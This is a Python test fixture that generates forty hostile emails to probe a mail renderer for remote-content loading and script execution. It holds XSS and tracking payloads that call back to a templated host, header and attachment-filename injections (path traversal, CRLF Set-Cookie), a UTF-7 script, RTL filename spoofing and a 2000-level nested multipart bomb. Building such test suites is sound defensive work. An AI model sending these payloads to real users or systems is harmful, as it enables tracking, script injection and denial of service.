"""Forty mails that want to be noticed: each reaches out, runs something, or pretends, in a way of its own.

``{host}`` is where a mail would reach: a name of its own and a port, so whoever listens there knows which mail it was.
"""

import base64
from collections.abc import Callable, Iterator

_HTML: dict[str, str] = {
    "picture": '<img src="http://{host}/p.png">',
    "picture without a scheme": '<img src="//{host}/p.png">',
    "picture in a set": '<img srcset="http://{host}/a.png 1x, http://{host}/b.png 2x">',
    "picture and source": '<picture><source srcset="http://{host}/s.webp"><img src="x" lowsrc="http://{host}/l"></picture>',
    "background": '<table background="http://{host}/bg.png"><tr><td background="http://{host}/td">x</table>',
    "style": "<style>@import url(http://{host}/i.css);body{{background:url('http://{host}/s.png')}}</style>x",
    "style of an element": '<p style="background:url(http://{host}/e.png)">x</p>',
    "style with escapes": r'<p style="background:\75\72\6c(http://{host}/esc.png)">x</p>',
    "style with a picture set": "<p style=\"background:image-set('http://{host}/set.png' 1x)\">x</p>",
    "font": "<style>@font-face{{font-family:f;src:url(http://{host}/f.woff)}}p{{font-family:f}}</style><p>x</p>",
    "stylesheet": '<link rel="stylesheet" href="http://{host}/l.css">',
    "look-up beforehand": '<link rel="dns-prefetch" href="//{host}"><link rel="preconnect" href="http://{host}">',
    "page beforehand": '<link rel="prerender" href="http://{host}/r"><link rel="prefetch" href="http://{host}/f">',
    "switch for look-ups": '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://{host}/">x</a>',
    "other page": '<meta http-equiv="refresh" content="0;url=http://{host}/refresh">',
    "base": '<base href="http://{host}/"><img src="relative.png"><a href="relative">x</a>',
    "script": '<script>new Image().src="http://{host}/script"</script>',
    "script from elsewhere": '<script src="http://{host}/s.js"></script>',
    "script at an error": "<img src=x onerror=\"fetch('http://{host}/onerror')\">",
    "script at a load": "<body onload=\"top.location='http://{host}/onload'\">x",
    "script in an address": '<a href="javascript:fetch(\'http://{host}/js\')" autofocus onfocus="alert(1)">x</a>',
    "script in a half tag": "<<script>alert(1)//<</script><img src='http://{host}/half'",
    "script in a comment": "<!--><script>fetch('http://{host}/comment')</script>-->",
    "script in mathematics": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "script by a template": "<template><script>fetch('http://{host}/t')</script></template><noscript><img src=http://{host}/n>",
    "drawing": "<svg onload=\"fetch('http://{host}/svg')\"><image href='http://{host}/i.png'/><use href='http://{host}/u#x'/></svg>",
    "drawing as a picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{host}/d'/></svg>\">",
    "frame": '<iframe src="http://{host}/frame"></iframe><frameset><frame src="http://{host}/f"></frameset>',
    "frame of its own": "<iframe srcdoc=\"<script>parent.fetch('http://{host}/srcdoc')</script>\"></iframe>",
    "object": '<object data="http://{host}/o"></object><embed src="http://{host}/e"><applet code="x" codebase="http://{host}/"></applet>',
    "film": '<video src="//{host}/v" poster="//{host}/p" autoplay></video><audio src="//{host}/a" autoplay></audio>',
    "form": '<form action="http://{host}/form" method=post><input name=a value=b autofocus><button>x</button></form>',
    "called home by a click": '<a href="http://{host}/click" ping="http://{host}/ping" target="_top">x</a>',
}


def _html(text: str) -> Callable[[str], bytes]:
    def mail(host: str) -> bytes:
        return (
            b"From: a@example.org\r\nSubject: hostile\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            + text.format(host=host).encode()
        )

    return mail


def _subject(host: str) -> bytes:
    hidden = base64.b64encode(f"\"><img src='http://{host}/subject'><script>alert(1)</script>".encode()).decode()
    return f"From: a@example.org\r\nSubject: =?utf-8?b?{hidden}?=\r\n\r\nx\r\n".encode()


def _addresses(host: str) -> bytes:
    name = f'"<svg/onload=fetch(//{host}/from)>" <x@example.org>'
    return f"From: {name}\r\nTo: '\"><img src=//{host}/to>\r\nDate: <script>alert(1)</script>\r\n\r\nx\r\n".encode()


def _turned_around(host: str) -> bytes:
    return f"From: a@example.org\r\nSubject: \u202egnp.exe\u2066\x1b[2J http://{host}/\r\n\r\n\u202etxet\r\n".encode()


def _text(host: str) -> bytes:
    return f"Content-Type: text/plain\r\n\r\n</pre><script>fetch('http://{host}/text')</script>\r\n".encode()


def _names_of_attachments(host: str) -> bytes:
    return (
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n'
        'Content-Disposition: attachment; filename="../../x<img src=//' + host + '/name>.html"\r\n\r\n'
        f"<script>fetch('http://{host}/attachment')</script>\r\n--b\r\nContent-Type: image/svg+xml\r\n"
        "Content-Disposition: attachment; filename*=utf-8''%0d%0aSet-Cookie:%20a=b.svg\r\n\r\n"
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('http://{host}/svgfile')\"/>\r\n--b--\r\n"
    ).encode()


def _type_of_a_part(host: str) -> bytes:
    return (
        "Content-Type: text/html; charset=utf-7\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(
            f"+ADw-script+AD4-fetch('http://{host}/utf7')+ADw-/script+AD4-<img src=//{host}/u>".encode()
        ).decode()
    ).encode()


def _parts_without_end(host: str) -> bytes:
    parts = "".join(f"--b{n}\r\nContent-Type: multipart/mixed; boundary=b{n + 1}\r\n\r\n" for n in range(2000))
    return f"Content-Type: multipart/mixed; boundary=b0\r\n\r\n{parts}<img src=http://{host}/deep>".encode()


def hostile_mails(host: Callable[[int], str]) -> Iterator[tuple[str, bytes]]:
    """Return name and content of each; ``host`` says where the mail of a number is to reach."""
    mails = {name: _html(text) for name, text in _HTML.items()} | {
        "subject": _subject,
        "addresses": _addresses,
        "turned around": _turned_around,
        "text": _text,
        "names of attachments": _names_of_attachments,
        "type of a part": _type_of_a_part,
        "parts without end": _parts_without_end,
    }
    for number, (name, mail) in enumerate(mails.items()):
        yield name, mail(host(number))
